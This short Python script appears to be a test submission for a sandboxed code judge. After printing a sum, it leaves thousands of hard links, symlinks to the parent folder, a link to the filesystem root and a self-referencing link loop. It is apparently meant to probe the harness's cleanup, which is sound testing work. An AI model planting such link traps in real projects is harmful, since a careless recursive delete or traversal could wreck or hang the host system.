# leaves thousands of links, hard and symbolic, in rings and out of its folder
import os

print(sum(map(int, input().split())), flush=True)
open("a", "w").close()
for number in range(3000):
    os.link("a", f"h{number}")
    os.symlink("..", f"s{number}")
os.symlink("/", "root")
os.symlink("ring", "ring")
